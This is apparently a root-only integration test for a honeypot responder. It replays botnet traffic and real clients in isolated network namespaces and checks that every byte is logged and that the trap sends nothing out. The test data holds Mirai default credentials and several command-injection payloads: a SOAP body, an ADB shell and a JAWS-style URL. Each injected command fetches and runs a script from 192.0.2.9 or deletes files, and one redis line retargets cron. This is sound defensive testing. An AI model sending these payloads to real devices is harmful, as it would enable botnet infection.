"""Real clients, and attackers' words, against the real responder behind its own firewall rule, in namespaces of their own.

The truth is a capture on the responder's side: what each connection's client sent, put together by its sequence numbers. What
`teiten respond` has put into the lake must be the same, byte for byte, at the port that was meant; and nothing may leave the
responder's namespace that does not belong to a connection which came in.
"""

from __future__ import annotations

import contextlib
import json
import os
import random
import shutil
import signal
import struct
import subprocess
import sys
import textwrap
import time
from collections import Counter, defaultdict
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from teiten.respond.hello import facts

pytestmark = [pytest.mark.root, pytest.mark.full, pytest.mark.alone]
NEEDED = ("ip", "nft", "tcpdump", "tshark", "nmap", "curl")
WORLD, TRAP = "teiten-world", "teiten-trap"
ADDRESSES = {WORLD: ("10.67.0.1", "fd67::1"), TRAP: ("10.67.0.2", "fd67::2")}
FOUR, SIX = ADDRESSES[TRAP]
os.environ["PATH"] += ":/usr/sbin:/sbin"
Key = tuple[str, int, int]
"""a client's address and port, and the port that it meant"""


def run(*command: str, timeout: float = 60, check: bool = True, given: str = "") -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        command, capture_output=True, text=True, timeout=timeout, check=check, input=given, errors="replace"
    )  # fmt: skip


def within(namespace: str, *command: str, timeout: float = 60, check: bool = True, given: str = "") -> str:
    return run("ip", "netns", "exec", namespace, *command, timeout=timeout, check=check, given=given).stdout


def build() -> None:
    for namespace in ADDRESSES:
        run("ip", "netns", "add", namespace)
    run("ip", "link", "add", "r0", "netns", WORLD, "type", "veth", "peer", "name", "r0", "netns", TRAP)
    for namespace, (four, six) in ADDRESSES.items():
        within(namespace, "ip", "link", "set", "lo", "up")
        within(namespace, "ip", "addr", "add", f"{four}/24", "dev", "r0")
        within(namespace, "ip", "addr", "add", f"{six}/64", "dev", "r0", "nodad")
        within(namespace, "ip", "link", "set", "r0", "up")
    # whatever the responder's side begins by itself: connections, datagrams, echo requests
    rules = """
    table inet egress {
      counter begun {}
      chain out {
        type filter hook output priority 0; policy accept;
        icmpv6 type { nd-neighbor-solicit, nd-neighbor-advert, nd-router-solicit, mld2-listener-report } accept
        oif "lo" accept
        ct direction original counter name begun
      }
    }"""
    within(TRAP, "nft", "-f", "-", given=textwrap.dedent(rules))


def take_down() -> None:
    for namespace in ADDRESSES:
        for pid in run("ip", "netns", "pids", namespace, check=False).stdout.split():
            run("kill", "-9", pid, check=False)
        run("ip", "netns", "del", namespace, check=False)


CLIENT = r"""
import json, socket, sys, time
for one in json.load(sys.stdin):
    family = socket.AF_INET6 if ":" in one["to"] else socket.AF_INET
    link = socket.socket(family, socket.SOCK_STREAM)
    link.settimeout(3)
    try:
        link.connect((one["to"], one["port"]))
        for word in one["words"]:
            if one["waits"]:
                link.settimeout(0.4)
                try:
                    link.recv(2000)
                except TimeoutError:
                    pass
            data = bytes.fromhex(word)
            step = one["step"] or len(data) or 1
            for n in range(0, len(data), step):
                link.sendall(data[n:n + step])
                if one["step"]:
                    time.sleep(0.01)
        link.settimeout(0.4)
        try:
            link.recv(2000)
        except TimeoutError:
            pass
    except OSError as error:
        print(one["port"], error, file=sys.stderr)
    link.close()
"""


def attackers() -> list[dict[str, object]]:
    """Words as bots send them: Mirai's dictionary over telnet, its heirs' commands over HTTP and SOAP, ADB, Xiongmai, noise."""
    rng, out = random.Random(8), []

    def add(port: int, *words: bytes, to: str = FOUR, waits: bool = True, step: int = 0) -> None:
        out.append({"to": to, "port": port, "words": [w.hex() for w in words], "waits": waits, "step": step})

    for user, password in ((b"root", b"xc3511"), (b"root", b"vizxv"), (b"admin", b"admin"), (b"root", b"888888")):
        for port in (23, 2323):
            add(
                port,
                b"\xff\xfc\x01\xff\xfc\x1f" + user + b"\r\n",
                password + b"\r\n",
                b"enable\r\n",
                b"system\r\n",
                b"shell\r\n",
            )
        add(23, user + b"\0", password + b"\0", to=SIX)
    soap = b'<?xml version="1.0"?><s:Envelope><s:Body><u:AddPortMapping>`cd /tmp;wget http://192.0.2.9/x`</u:AddPortMapping></s:Body>'
    for n, port in enumerate((52869, 37215, 52869, 37215, 49152, 7547, 8080, 60001)):
        body = soap + b"x" * rng.randrange(3000)
        head = b"POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nHost: a\r\nContent-Length: %d\r\n\r\n" % len(body)
        add(port, head + body, waits=False, step=(0, 50)[n % 2], to=(FOUR, SIX)[n % 2])
    shell = b"shell:cd /data/local/tmp/; busybox wget http://192.0.2.9/w.sh; sh w.sh\0"
    for _ in range(4):
        connect = struct.pack("<6I", 0x4E584E43, 0x01000000, 4096, 7, 562, 0xB1A7B1BC) + b"host::\0"
        opened = struct.pack("<6I", 0x4E45504F, 1, 0, len(shell), sum(shell), 0x4E45504F ^ 0xFFFFFFFF) + shell
        add(5555, connect, opened)
        add(9530, b"\x13OpenTelnet:OpenOnce", b"\x18randNum:" + rng.randbytes(16), waits=False)
    for port in (81, 8081, 8888, 80, 8443):
        add(port, b"GET /shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.9/jaws;sh+/tmp/jaws HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
    add(554, b"OPTIONS rtsp://a/ RTSP/1.0\r\nCSeq: 1\r\n\r\n", b"DESCRIBE rtsp://a/ RTSP/1.0\r\nCSeq: 2\r\n\r\n")
    sip = b"Via: SIP/2.0/TCP a;branch=z\r\nFrom: <sip:a>\r\nTo: <sip:b>\r\nCall-ID: 1\r\nCSeq: 1 OPTIONS\r\n\r\n"
    add(5060, b"OPTIONS sip:100@a SIP/2.0\r\n" + sip)
    add(2375, b"GET /version HTTP/1.1\r\nHost: a\r\n\r\n", b"POST /containers/create HTTP/1.1\r\nContent-Length: 2\r\n\r\n{}")
    zgrab = b"User-Agent: Mozilla/5.0 zgrab/0.x\r\nAccept: */*\r\nAccept-Encoding: gzip\r\n\r\n"
    for port, path in ((80, b"/"), (8081, b"/"), (8000, b"/Telerik.Web.UI.WebResource.axd?type=rau"), (9200, b"/_cat/indices")):
        add(port, b"GET %s HTTP/1.1\r\nHost: %s:%d\r\n%s" % (path, FOUR.encode(), port, zgrab))
    for port in (443, 993, 5671):  # a ClientHello alone, the second one cut into records
        add(port, hello(b"scan.example", halves=port == 993), waits=False)
    for n in range(30):  # noise, at any port, one byte and large ones too
        add(rng.randrange(1, 65536), rng.randbytes(rng.choice((1, 7, 300, 60_000))), waits=False, to=(FOUR, SIX)[n % 3 == 0])
    add(3306, waits=False)  # nothing is said
    return out


def hello(name: bytes, *, halves: bool) -> bytes:
    """A ClientHello as zgrab's TLS module sends one: two ciphers, a server's name, no GREASE."""
    server = struct.pack("!HHHBH", 0, len(name) + 5, len(name) + 3, 0, len(name)) + name
    rest = server + bytes.fromhex("000a00040002001d000d00040002 0403002b0003020304")
    body = (
        b"\x03\x03" + bytes(range(32)) + b"\0" + bytes.fromhex("0004c02fc02b") + b"\x01\0" + struct.pack("!H", len(rest)) + rest
    )
    message = b"\x01" + len(body).to_bytes(3, "big") + body
    pieces = [message[:20], message[20:]] if halves else [message]
    return b"".join(b"\x16\x03\x01" + struct.pack("!H", len(one)) + one for one in pieces)


def clients() -> list[tuple[str, ...]]:
    """Real programs; one that is not installed is left out."""
    quiet = ("--max-time", "3", "-s", "-o", "/dev/null")
    ssh = (
        "-o",
        "BatchMode=yes",
        "-o",
        "ConnectTimeout=3",
        "-o",
        "StrictHostKeyChecking=no",
        "-o",
        "UserKnownHostsFile=/dev/null",
    )
    every: list[tuple[str, ...]] = [
        *(("curl", *quiet, f"http://{FOUR}:{port}/{port}") for port in (80, 81, 8080, 52869, 2375, 12345)),
        ("curl", *quiet, "-u", "admin:1234", f"http://{FOUR}:80/cgi-bin/luci"),
        ("curl", *quiet, "-d", "cmd=id", f"http://[{SIX}]:8080/boaform/admin/formLogin"),
        ("curl", *quiet, "-T", "/etc/hostname", f"http://{FOUR}:8000/up"),
        ("curl", *quiet, "-k", f"https://{FOUR}:443/"),
        ("curl", *quiet, "-k", "--resolve", f"camera.example:8443:{FOUR}", "https://camera.example:8443/"),
        ("ssh", *ssh, f"root@{FOUR}"),
        ("ssh", *ssh, "-p", "2222", f"root@{FOUR}"),
        ("curl", *quiet, f"rtsp://{FOUR}:554/live"),
        ("openssl", "s_client", "-connect", f"{FOUR}:8883", "-servername", "broker.example", "-alpn", "h2"),
        ("openssl", "s_client", "-connect", f"{FOUR}:4443", "-tls1_2"),
        ("redis-cli", "-h", FOUR, "ping"),
        ("redis-cli", "-h", FOUR, "config", "set", "dir", "/var/spool/cron/"),
        ("telnet", FOUR, "2323"),
        ("smbclient", "-N", "-t", "3", "-L", f"//{FOUR}/"),
        ("smbclient", "-N", "-t", "3", "-m", "NT1", "--option=client min protocol=NT1", "-L", f"//{FOUR}/"),
        ("adb", "-P", "5077", "connect", f"{FOUR}:5555"),
        ("nmap", "-n", "-Pn", "-sV", "--version-intensity", "1", "-T5", "-p",
         "21,22,23,25,80,139,443,445,554,3389,5060,5555,6379,8080,9530,52869", FOUR),
        ("nmap", "-n", "-Pn", "-6", "-sT", "-p", "23,80,9999", SIX),
    ]  # fmt: skip
    return [one for one in every if shutil.which(one[0])]


@dataclass
class Heard:
    truth: dict[Key, bytes]
    kept: dict[Key, bytes]
    opened: set[Key]
    printed: dict[str, str]
    begun: int
    """packets that the responder's side sent of its own accord"""
    answered: int
    """datagrams that came back for those that were sent"""
    status: str


@contextlib.contextmanager
def responding(folder: Path) -> Iterator[None]:
    # at :: both arrive: the kernel gives IPv4's connections to it, too
    words = [sys.executable, "-m", "teiten", "respond", "--ports", "2300", "--address", "::", "--sensor", "trap"]
    command = ["ip", "netns", "exec", TRAP, *words, "--spool", str(folder / "spool"), "--lake", str(folder / "lake")]
    log = (folder / "respond.log").open("wb")
    process = subprocess.Popen(command, stderr=log, stdout=log, cwd=folder)
    try:
        deadline = time.monotonic() + 60
        while ":2300" not in within(TRAP, "ss", "-ltn"):
            assert process.poll() is None and time.monotonic() < deadline, (folder / "respond.log").read_text()
            time.sleep(0.2)
        yield
        time.sleep(1.5)  # first payloads are on the disk within a second
        process.send_signal(signal.SIGTERM)
        assert process.wait(120) == 0, (folder / "respond.log").read_text()
    finally:
        if process.poll() is None:
            process.kill()
            process.wait(10)
        log.close()


@pytest.fixture(scope="module")
def heard(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Heard]:
    if os.geteuid() != 0:
        pytest.skip("needs root, to make network namespaces")
    missing = [tool for tool in NEEDED if shutil.which(tool) is None]
    if missing:
        pytest.skip(f"not installed: {', '.join(missing)}")
    folder = tmp_path_factory.mktemp("respond")
    take_down()
    try:
        build()
    except subprocess.CalledProcessError as error:
        pytest.skip(f"this kernel does not let us build the laboratory: {' '.join(error.cmd)}: {error.stderr.strip()}")
    try:
        rules = run(sys.executable, "-m", "teiten", "respond", "--rules", "--ports", "2300", "--except", "22222").stdout
        within(TRAP, "nft", "-f", "-", given=rules)
        capture = folder / "trap.pcap"
        sniff = ["tcpdump", "-i", "r0", "-Q", "in", "-U", "-n", "-B", "16384", "-Z", "root", "-w", str(capture), "tcp"]
        sniffer = subprocess.Popen(["ip", "netns", "exec", TRAP, *sniff], stderr=subprocess.DEVNULL)
        time.sleep(2)
        printed = {}
        with responding(folder):
            within(WORLD, sys.executable, "-c", CLIENT, given=json.dumps(attackers()), timeout=300)
            for one in clients():
                given = "root\r\nadmin\r\n" if one[0] == "telnet" else ""
                with contextlib.suppress(subprocess.TimeoutExpired):
                    # (who waits for what is never said, as ssh does, has said it all long before)
                    patience = 130 if one[0] == "nmap" else 8
                    printed[" ".join(one)] = within(WORLD, *one, timeout=patience, check=False, given=given)
            answered = int(within(WORLD, sys.executable, "-c", DATAGRAMS, FOUR))
            if shutil.which("adb"):
                within(WORLD, "adb", "-P", "5077", "kill-server", check=False)
        sniffer.terminate()
        sniffer.wait(10)
        counter = json.loads(within(TRAP, "nft", "-j", "list", "counter", "inet", "egress", "begun"))
        yield made(folder, capture, printed, begun_of(counter), answered)
    finally:
        take_down()


def made(folder: Path, capture: Path, printed: dict[str, str], begun: int, answered: int) -> Heard:
    kept, opened = kept_of(folder)
    return Heard(truth_of(capture), kept, opened, printed, begun, answered, (folder / "respond.log").read_text())


DATAGRAMS = r"""
import socket, sys
link = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
link.settimeout(0.05)
answers = 0
words = [b"OPTIONS sip:100@a SIP/2.0\r\n\r\n", b"M-SEARCH * HTTP/1.1\r\n\r\n", b"\x17\0\x03\x2a" + bytes(4)]
words += [b"\0\1\0\0\0\1", b"x" * 1400]
for port in (53, 69, 123, 161, 389, 1900, 2300, 5060, 5353, 11211):
    for word in words:
        link.sendto(word, (sys.argv[1], port))
        try:
            answers += bool(link.recvfrom(2000)) or 1
        except OSError:
            pass
print(answers)
"""


def begun_of(told: object) -> int:
    return next(one["counter"]["packets"] for one in told["nftables"] if "counter" in one)  # type: ignore[index]


def truth_of(capture: Path) -> dict[Key, bytes]:
    """What each client sent, by the capture: pieces in the order of their sequence numbers, each once."""
    fields = ("ip.src", "ipv6.src", "tcp.srcport", "tcp.dstport", "tcp.seq_raw", "tcp.flags.syn", "tcp.payload")
    words = [word for name in fields for word in ("-e", name)]
    text = run("tshark", "-r", str(capture), "-T", "fields", *words, timeout=300).stdout
    first: dict[Key, int] = {}
    pieces: dict[Key, dict[int, bytes]] = defaultdict(dict)
    for line in text.splitlines():
        four, six, sport, dport, seq, syn, payload = line.split("\t")
        key = (four or six, int(sport), int(dport))
        if syn in ("1", "True"):
            first[key] = int(seq) + 1
        elif payload:
            place = (int(seq) - first[key]) % (1 << 32)
            data = bytes.fromhex(payload.replace(":", ""))
            if place < 1 << 31 and len(data) >= len(pieces[key].get(place, b"")):
                pieces[key][place] = data
    out = {}
    for key in first:
        whole = b""
        for place, data in sorted(pieces[key].items()):
            assert place <= len(whole), f"the capture has a hole: {key}"
            whole = whole[:place] + data + whole[place + len(data) :]
        out[key] = whole
    return out


def kept_of(folder: Path) -> tuple[dict[Key, bytes], set[Key]]:
    """What the lake has: what was said, by the connection; and the connections."""
    query = "SELECT src_ip, src_port, dst_port, packets, payload FROM events ORDER BY time, source_pos"
    words = [sys.executable, "-m", "teiten", "sql", query, "--lake", str(folder / "lake"), "--output", "json"]
    rows = json.loads(run(*words, timeout=120).stdout)
    kept: dict[Key, bytes] = defaultdict(bytes)
    opened = set()
    for row in rows:
        key = (row["src_ip"], row["src_port"], row["dst_port"])
        if row["packets"]:
            opened.add(key)
        else:
            kept[key] += bytes.fromhex(row["payload"] or "")
    return kept, opened


def test_every_byte_of_everybody_is_kept(heard: Heard, figure: Callable[[int, str], None]) -> None:
    connected = {key: said for key, said in heard.truth.items() if key in heard.opened}
    said = {key: data for key, data in connected.items() if data}
    assert len(said) >= 100, heard.status
    wrong = {key: (data[:60], heard.kept.get(key, b"")[:60]) for key, data in said.items() if heard.kept.get(key) != data}
    figure(18, f"real clients and attackers' words: {len(said) - len(wrong)} of {len(said)} first payloads kept byte for byte")
    assert not wrong, f"{len(said) - len(wrong)} of {len(said)} kept byte for byte; {list(wrong.items())[:3]}"
    # a source port that two connections share at a time is changed by the kernel that redirects them (conntrack): who, where
    # to and what stay
    others = Counter((key[0], key[2], data) for key, data in heard.kept.items() if key not in said)
    assert others <= Counter((key[0], key[2], data) for key, data in heard.truth.items() if key not in heard.opened)
    # a SYN that became no connection is the scanner's doing (nmap asks first whether a port is open)
    assert len(heard.opened) >= 0.8 * len(heard.truth)
    assert {key[2] for key in said} >= {22, 23, 80, 445, 5555, 6379, 9530, 52869, 37215}
    assert any(":" in key[0] for key in said)


def test_nothing_leaves_by_itself(heard: Heard, figure: Callable[[int, str], None]) -> None:
    """Promise 18: packets that the responder's side began: 0."""
    figure(
        18,
        f"packets that the responder's namespace sent of its own accord: {heard.begun}; datagrams answered: {heard.answered}",
    )
    assert heard.begun == 0


def test_datagrams_are_not_answered(heard: Heard) -> None:
    """UDP is silent: what the kernel of the responder's machine says of a closed port (ICMP) is the firewall's to stop."""
    assert heard.answered == 0


def test_nobody_is_let_in_and_clients_go_on(heard: Heard) -> None:
    names = {words.split()[0]: text for words, text in heard.printed.items()}
    spoken = " ".join(data.decode("latin-1") for data in heard.kept.values())
    assert "xc3511" in spoken and "OpenTelnet:OpenOnce" in spoken and "busybox wget" in spoken
    assert "Authorization: Basic" in spoken
    if "redis-cli" in names:
        assert [text.strip() for words, text in heard.printed.items() if words.endswith(" ping")] == ["PONG"]
        assert "/var/spool/cron/" in spoken
    assert "zgrab/0.x" in spoken and "RTSP/1.0" in spoken and "SIP/2.0" in spoken and "/containers/create" in spoken
    hellos = [told for data in heard.kept.values() if (told := facts(data)) is not None]
    assert {"scan.example", "camera.example"} <= {told.get("sni") for told in hellos}
    assert len({told["ja4"] for told in hellos if told.get("sni") == "scan.example"}) == 1  # however it was cut into records
    if shutil.which("openssl"):
        assert "broker.example" in {told.get("sni") for told in hellos}
    if shutil.which("ssh"):
        assert "diffie-hellman" in spoken  # the client's list of methods comes after the version line
    scanned = [text for words, text in heard.printed.items() if words.startswith("nmap")]
    assert any("9999/tcp" in text and " open " in text for text in scanned), scanned
